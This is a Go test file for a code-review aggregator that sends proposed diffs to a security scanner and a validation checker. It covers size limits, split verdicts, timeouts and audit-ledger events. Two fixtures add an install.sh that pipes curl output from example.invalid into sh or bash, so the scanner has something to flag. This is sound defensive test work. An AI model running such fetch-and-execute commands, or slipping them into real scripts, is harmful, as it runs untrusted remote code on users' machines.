package review

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Mindburn-Labs/leasegate/pkg/audit"
	"github.com/Mindburn-Labs/leasegate/pkg/contracts"
	"github.com/Mindburn-Labs/leasegate/pkg/gateerr"
	"github.com/Mindburn-Labs/leasegate/pkg/intent"
	"github.com/Mindburn-Labs/leasegate/pkg/patch"
)

const cleanDiff = `--- a/svc/handler.go
+++ b/svc/handler.go
@@ -1,3 +1,3 @@
 package svc
-func Timeout() int { return 5 }
+func Timeout() int { return 10 }
 // end
--- /dev/null
+++ b/svc/handler_test.go
@@ -0,0 +1,2 @@
+package svc
+// covers Timeout
`

const riskyDiff = cleanDiff + `--- /dev/null
+++ b/scripts/install.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://example.invalid/setup | sh
`

func proposalFor(diff string) contracts.Proposal {
	p := patch.MustParse(diff)
	rev := p.Reverse()
	return contracts.Proposal{
		Diff:            diff,
		DiffRef:         p.Digest(),
		ReverseDiff:     rev.String(),
		ReversePatchRef: rev.Digest(),
	}
}

type harness struct {
	intents *intent.Registry
	ledger  *audit.Ledger
	agg     *Aggregator
}

func newHarness(t *testing.T, cfg Config, reviewers ...Reviewer) *harness {
	t.Helper()
	h := &harness{intents: intent.NewRegistry(), ledger: audit.NewMemory()}
	if len(reviewers) == 0 {
		reviewers = []Reviewer{NewSecurityScanner("security", nil), NewValidationChecker("validation")}
	}
	h.agg = NewAggregator(cfg, h.intents, h.ledger, reviewers...)
	return h
}

func (h *harness) draft(t *testing.T) contracts.Intent {
	t.Helper()
	in, err := h.intents.Create("raise handler timeout", contracts.Scope{
		Environment: "staging",
		Paths:       []string{"scripts", "svc"},
	})
	require.NoError(t, err)
	return in
}

func (h *harness) events(typ audit.EventType) []audit.Event {
	return h.ledger.Query(audit.Filter{Types: []audit.EventType{typ}})
}

func TestReview_OversizedDiffNeverDispatched(t *testing.T) {
	h := newHarness(t, Config{MaxDiffLines: 500})
	in := h.draft(t)

	var b strings.Builder
	b.WriteString("--- /dev/null\n+++ b/svc/generated.go\n@@ -0,0 +1,10000 @@\n")
	for i := 0; i < 10000; i++ {
		fmt.Fprintf(&b, "+var v%d = %d\n", i, i)
	}

	_, err := h.agg.Review(context.Background(), in.ID, proposalFor(b.String()))
	require.Error(t, err)
	assert.True(t, errors.Is(err, gateerr.Validation))
	assert.Equal(t, gateerr.CodeDiffTooLarge, gateerr.CodeOf(err))
	assert.Zero(t, h.agg.Dispatches())

	rejected := h.events(audit.EventProposalRejected)
	require.Len(t, rejected, 1)
	assert.Equal(t, rejected[0].Seq, gateerr.SeqOf(err))
	assert.Empty(t, h.events(audit.EventReviewDispatched))

	status, _ := h.intents.Status(in.ID)
	assert.Equal(t, contracts.IntentDraft, status)
}

func TestReview_PrecheckRejections(t *testing.T) {
	cases := map[string]struct {
		cfg      Config
		proposal func() contracts.Proposal
		code     string
	}{
		"missing reverse patch": {
			proposal: func() contracts.Proposal {
				p := proposalFor(cleanDiff)
				p.ReverseDiff, p.ReversePatchRef = "", ""
				return p
			},
			code: gateerr.CodeMissingReversePatch,
		},
		"byte cap": {
			cfg:      Config{MaxDiffBytes: 64},
			proposal: func() contracts.Proposal { return proposalFor(cleanDiff) },
			code:     gateerr.CodeDiffTooLarge,
		},
		"unparseable diff": {
			proposal: func() contracts.Proposal {
				p := proposalFor(cleanDiff)
				p.Diff = "--- a/x\n@@ nonsense"
				p.DiffRef = ""
				return p
			},
			code: gateerr.CodeMalformedProposal,
		},
		"diff ref mismatch": {
			proposal: func() contracts.Proposal {
				p := proposalFor(cleanDiff)
				p.DiffRef = patch.MustParse(riskyDiff).Digest()
				return p
			},
			code: gateerr.CodeMalformedProposal,
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			h := newHarness(t, tc.cfg)
			in := h.draft(t)
			_, err := h.agg.Review(context.Background(), in.ID, tc.proposal())
			require.Error(t, err)
			assert.Equal(t, gateerr.KindValidation, gateerr.KindOf(err))
			assert.Equal(t, tc.code, gateerr.CodeOf(err))
			assert.NotZero(t, gateerr.SeqOf(err))
			assert.Zero(t, h.agg.Dispatches())
		})
	}
}

func TestReview_UnanimousPassApproves(t *testing.T) {
	h := newHarness(t, Config{MaxDiffLines: 500})
	in := h.draft(t)

	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	require.NoError(t, err)
	assert.True(t, d.Approved())
	assert.NoError(t, d.Err())
	assert.Equal(t, 1, d.Rounds)
	assert.Len(t, d.Verdicts, 2)
	assert.EqualValues(t, 2, h.agg.Dispatches())

	got, err := h.intents.Get(in.ID)
	require.NoError(t, err)
	assert.Equal(t, contracts.IntentApproved, got.Status)
	assert.Equal(t, d.AuditSeq, got.DecisionSeq)

	assert.Len(t, h.events(audit.EventReviewDispatched), 1)
	assert.Len(t, h.events(audit.EventReviewVerdict), 2)
	assert.Len(t, h.events(audit.EventReviewDecision), 1)
	assert.Empty(t, h.events(audit.EventArbitration))
	require.NoError(t, h.ledger.VerifyChain())

	// Decided intents cannot be reviewed again.
	_, err = h.agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	assert.Equal(t, gateerr.KindInvalidState, gateerr.KindOf(err))
}

func TestReview_SplitVerdictDownScopesThenApproves(t *testing.T) {
	h := newHarness(t, Config{MaxDiffLines: 500})
	in := h.draft(t)

	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(riskyDiff))
	require.NoError(t, err)
	require.True(t, d.Approved(), d.Rationale)
	assert.Equal(t, 2, d.Rounds)
	assert.Len(t, d.Verdicts, 4)

	first := d.Verdicts[:2]
	assert.Equal(t, contracts.VerdictFail, first[0].Result)
	assert.Equal(t, contracts.VerdictReasonContent, first[0].Reason)
	assert.Equal(t, "scripts/install.sh", first[0].Findings[0].Path)
	assert.Equal(t, contracts.VerdictPass, first[1].Result)

	assert.Equal(t, []string{"svc/handler.go", "svc/handler_test.go"}, d.Scope.Paths)
	assert.NotContains(t, d.Proposal.Diff, "install.sh")
	assert.Equal(t, patch.MustParse(d.Proposal.Diff).Digest(), d.Proposal.DiffRef)

	got, _ := h.intents.Get(in.ID)
	assert.Equal(t, []string{"svc/handler.go", "svc/handler_test.go"}, got.RequestedScope.Paths)

	arb := h.events(audit.EventArbitration)
	require.Len(t, arb, 1)
	var res Resolution
	require.NoError(t, audit.DecodePayload(arb[0], &res))
	assert.Equal(t, ActionResubmit, res.Action)
	assert.Equal(t, []string{"scripts/install.sh"}, res.DroppedPaths)
}

func TestReview_SplitVerdictRejectedWhenResubmissionFails(t *testing.T) {
	stubborn := ReviewerFunc{Name: "stubborn", Fn: func(_ context.Context, sub Submission) contracts.Verdict {
		return contracts.Verdict{
			Result:   contracts.VerdictFail,
			Details:  "dislikes handlers",
			Findings: []contracts.Finding{{Path: "svc/handler.go", Rule: "taste"}},
		}
	}}
	h := newHarness(t, Config{}, NewSecurityScanner("security", nil), stubborn)
	in := h.draft(t)

	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	require.NoError(t, err)
	assert.Equal(t, contracts.IntentRejected, d.Status)
	assert.Equal(t, 2, d.Rounds)
	assert.Equal(t, gateerr.CodeArbitrationFailed, d.ReasonCode)
	assert.Contains(t, d.Rationale, "stubborn FAIL")
	assert.True(t, errors.Is(d.Err(), gateerr.ArbitrationDeadlock))

	status, _ := h.intents.Status(in.ID)
	assert.Equal(t, contracts.IntentRejected, status)
}

func TestReview_EverythingFlaggedRejectsWithoutResubmit(t *testing.T) {
	h := newHarness(t, Config{})
	in := h.draft(t)

	diff := `--- /dev/null
+++ b/scripts/install.sh
@@ -0,0 +1 @@
+curl https://example.invalid | bash
`
	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(diff))
	require.NoError(t, err)
	assert.Equal(t, contracts.IntentRejected, d.Status)
	assert.Equal(t, 1, d.Rounds)
	assert.EqualValues(t, 2, h.agg.Dispatches())
}

func TestReview_TimeoutIsDistinctFailure(t *testing.T) {
	var calls atomic.Int32
	hanging := ReviewerFunc{Name: "hanging", Fn: func(ctx context.Context, _ Submission) contracts.Verdict {
		calls.Add(1)
		<-ctx.Done()
		return contracts.Verdict{Result: contracts.VerdictPass}
	}}
	ignoring := ReviewerFunc{Name: "ignoring", Fn: func(context.Context, Submission) contracts.Verdict {
		time.Sleep(200 * time.Millisecond)
		return contracts.Verdict{Result: contracts.VerdictPass}
	}}
	h := newHarness(t, Config{ReviewTimeout: 20 * time.Millisecond}, hanging, ignoring)
	in := h.draft(t)

	start := time.Now()
	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	require.NoError(t, err)
	assert.Less(t, time.Since(start), 300*time.Millisecond)

	assert.Equal(t, contracts.IntentRejected, d.Status)
	assert.Equal(t, 2, d.Rounds, "timeouts resubmit unchanged once")
	assert.EqualValues(t, 2, calls.Load())
	for _, v := range d.Verdicts {
		assert.Equal(t, contracts.VerdictFail, v.Result)
		assert.Equal(t, contracts.VerdictReasonTimeout, v.Reason)
	}
}

func TestReview_PanickingReviewerFails(t *testing.T) {
	boom := ReviewerFunc{Name: "boom", Fn: func(context.Context, Submission) contracts.Verdict { panic("nil map") }}
	h := newHarness(t, Config{}, boom)
	in := h.draft(t)

	d, err := h.agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	require.NoError(t, err)
	assert.Equal(t, contracts.IntentRejected, d.Status)
	assert.Equal(t, contracts.VerdictReasonError, d.Verdicts[0].Reason)
}

func TestReview_LedgerFaultStopsReview(t *testing.T) {
	backend := audit.NewMemoryBackend()
	ledger, err := audit.Open(context.Background(), backend)
	require.NoError(t, err)
	intents := intent.NewRegistry()
	agg := NewAggregator(Config{}, intents, ledger, NewValidationChecker("validation"))
	in, err := intents.Create("goal", contracts.Scope{})
	require.NoError(t, err)

	backend.FailWith(audit.ErrInjectedFault)
	_, err = agg.Review(context.Background(), in.ID, proposalFor(cleanDiff))
	assert.True(t, errors.Is(err, gateerr.LedgerFault))
}

func TestPool_ReviewsConcurrently(t *testing.T) {
	h := newHarness(t, Config{})
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	h.agg.Start(ctx, 3)

	var results []<-chan Result
	for i := 0; i < 5; i++ {
		in := h.draft(t)
		results = append(results, h.agg.Submit(ctx, in.ID, proposalFor(cleanDiff)))
	}
	for _, ch := range results {
		select {
		case r := <-ch:
			require.NoError(t, r.Err)
			assert.True(t, r.Decision.Approved())
		case <-time.After(5 * time.Second):
			t.Fatal("no result")
		}
	}
	assert.Len(t, h.intents.List(contracts.IntentApproved), 5)

	h.agg.Stop()
	in := h.draft(t)
	r := <-h.agg.Submit(ctx, in.ID, proposalFor(cleanDiff))
	assert.Equal(t, gateerr.KindInvalidState, gateerr.KindOf(r.Err))
}

func TestPool_StopsWhenContextEnds(t *testing.T) {
	h := newHarness(t, Config{})
	ctx, cancel := context.WithCancel(context.Background())
	h.agg.Start(ctx, 1)
	cancel()

	require.Eventually(t, func() bool {
		in := h.draft(t)
		r := <-h.agg.Submit(context.Background(), in.ID, proposalFor(cleanDiff))
		return r.Err != nil
	}, time.Second, 10*time.Millisecond)
}
